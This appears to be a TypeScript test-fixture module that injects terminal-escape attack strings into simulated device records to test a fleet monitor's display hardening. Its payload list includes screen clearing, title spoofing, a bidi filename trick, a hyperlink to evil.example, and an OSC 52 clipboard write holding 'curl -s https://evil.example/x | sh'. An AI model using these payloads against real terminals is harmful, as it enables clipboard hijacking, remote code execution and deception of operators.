/**
 * Hostile strings: what a compromised or careless device could put in the
 * fields it reports, aimed at the terminal of whoever watches the fleet.
 * Every string field a person is shown gets one attack spliced into its
 * middle; which one is decided by a hash of the record id and the field's
 * slot, so a record reads the same on every request and, across a fleet,
 * every attack lands in every field. Ids, deviceIds and connectionIds stay
 * clean: a client needs them as cursors and paths.
 *
 * Copies only: the records handed in may share metadata with the simulation.
 */
import type {RawConnection, RawMetadata, RawSelfUpdate} from './types.js';

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

export const HOSTILE_ATTACKS: readonly string[] = [
	`${ESC}[31mred${ESC}[0m`, // CSI colour
	`${ESC}[2J${ESC}[3J${ESC}[H`, // clear screen and scrollback, cursor home
	`${ESC}]0;pwned${BEL}`, // OSC 0 window title, BEL-terminated
	`${ESC}]52;c;${Buffer.from('curl -s https://evil.example/x | sh').toString('base64')}${ST}`, // OSC 52 clipboard write, ST-terminated
	`${ESC}]8;;https://evil.example/${ST}click me${ESC}]8;;${ST}`, // OSC 8 hyperlink
	'\u009b2J\u009b31m8bit', // 8-bit CSI
	'\u0084\u0085\u008d\u0090q\u009c\u009d', // C1 controls: IND, NEL, RI, DCS … ST, OSC
	`ding${BEL}${BEL}`, // BEL
	'abc\b\b\bXYZ', // backspaces over what came before
	'shown\rHIDDEN', // carriage return: overwrite the start of the line
	'nul\u0000byte', // NUL
	'\u202Egpj.exe\u202C', // bidi override: reads as "exe.jpg"
	`${ESC}[1;31m${ESC}]0;owned${BEL}title`, // CSI and OSC together
	'long-'.repeat(1000), // 5 000 chars
	'東京-開発サーバー', // CJK: two columns each
	'🚀👩‍💻🔥🇩🇪', // emoji, a ZWJ sequence and a flag
];

/** FNV-1a, so an id always picks the same attacks. */
function hash(text: string): number {
	let value = 0x811c9dc5;
	for (let i = 0; i < text.length; i++) {
		value = Math.imul(value ^ text.charCodeAt(i), 0x01000193) >>> 0;
	}

	return value;
}

function attack(seed: number, slot: number): string {
	return HOSTILE_ATTACKS[(seed + slot) % HOSTILE_ATTACKS.length] as string;
}

/** The attack spliced into the middle of the value, by code points so no surrogate pair is split. */
export function spliceAttack(value: string, seed: number, slot: number): string {
	const points = Array.from(value);
	const middle = Math.ceil(points.length / 2);
	return `${points.slice(0, middle).join('')}${attack(seed, slot)}${points.slice(middle).join('')}`;
}

function hostileSelfUpdate(value: RawSelfUpdate, seed: number): RawSelfUpdate {
	const copy = {...value};
	if (copy.manual_command !== undefined) {
		copy.manual_command = spliceAttack(copy.manual_command, seed, 12);
	}

	if (copy.reason !== undefined) {
		copy.reason = spliceAttack(copy.reason, seed, 13);
	}

	return copy;
}

const METADATA_SLOTS = ['gitBranch', 'workingDirectory', 'os', 'lettaCodeVersion', 'nodeVersion'] as const;

function hostileMetadata(metadata: RawMetadata, seed: number): RawMetadata {
	const copy: RawMetadata = {...metadata};
	METADATA_SLOTS.forEach((key, index) => {
		const value = copy[key];
		if (typeof value === 'string') {
			copy[key] = spliceAttack(value, seed, 3 + index);
		}
	});
	if (Array.isArray(copy.supported_commands)) {
		copy.supported_commands = copy.supported_commands.map((command, index) =>
			spliceAttack(command, seed, 8 + index),
		);
	}

	if (copy.self_update) {
		copy.self_update = hostileSelfUpdate(copy.self_update, seed);
	}

	return copy;
}

export function hostileRecord(record: RawConnection): RawConnection {
	const seed = hash(record.id);
	const copy: RawConnection = {...record, connectionName: spliceAttack(record.connectionName, seed, 0)};
	if (copy.podId !== null) {
		copy.podId = spliceAttack(copy.podId, seed, 1);
	}

	if (copy.currentMode !== undefined) {
		copy.currentMode = spliceAttack(copy.currentMode, seed, 2);
	}

	// Shown in the detail pane and the LISTENER column, and not a cursor: fair game.
	if (copy.listenerInstanceId !== undefined) {
		copy.listenerInstanceId = spliceAttack(copy.listenerInstanceId, seed, 14);
	}

	if (copy.metadata) {
		copy.metadata = hostileMetadata(copy.metadata, seed);
	}

	return copy;
}

/** An error body with its `message` and `error` texts attacked. */
export function hostileError(body: Record<string, unknown>): Record<string, unknown> {
	const copy = {...body};
	for (const key of ['message', 'error']) {
		const value = copy[key];
		if (typeof value === 'string') {
			copy[key] = spliceAttack(value, hash(value), key === 'message' ? 0 : 2);
		}
	}

	return copy;
}

/** What a `deep` fault nests a record's metadata in, so a test can find the record and its cut. */
export const DEEP_KEY = 'nested';
const DEEP_PLACEHOLDER = '\u0000deep-fault\u0000';

/**
 * The JSON text of a reply whose first record (of a list page, or the single
 * record) has `metadata.nested` nested `levels` deep, with an escape sequence
 * at the bottom: a listener that registered metadata no recursive walk
 * survives. Built as text because JSON.stringify, recursive in V8, overflows
 * at a few thousand levels; the client's JSON.parse does not.
 */
export function deepBody(body: unknown, levels: number): string | undefined {
	const withDeep = (record: unknown): unknown =>
		typeof record === 'object' && record !== null
			? {...record, metadata: {...(record as RawConnection).metadata, [DEEP_KEY]: DEEP_PLACEHOLDER}}
			: record;
	const page = body as {connections?: unknown};
	const marked =
		typeof body === 'object' && body !== null && Array.isArray(page.connections)
			? {
					...page,
					connections: page.connections.map((record: unknown, index) =>
						index === 0 ? withDeep(record) : record,
					),
				}
			: withDeep(body);
	const text = JSON.stringify(marked);
	const placeholder = JSON.stringify(DEEP_PLACEHOLDER);
	if (!text.includes(placeholder)) return undefined;
	const nested = '{"a":'.repeat(levels) + '"\\u001b]0;deep\\u0007bottom"' + '}'.repeat(levels);
	return text.replace(placeholder, () => nested);
}
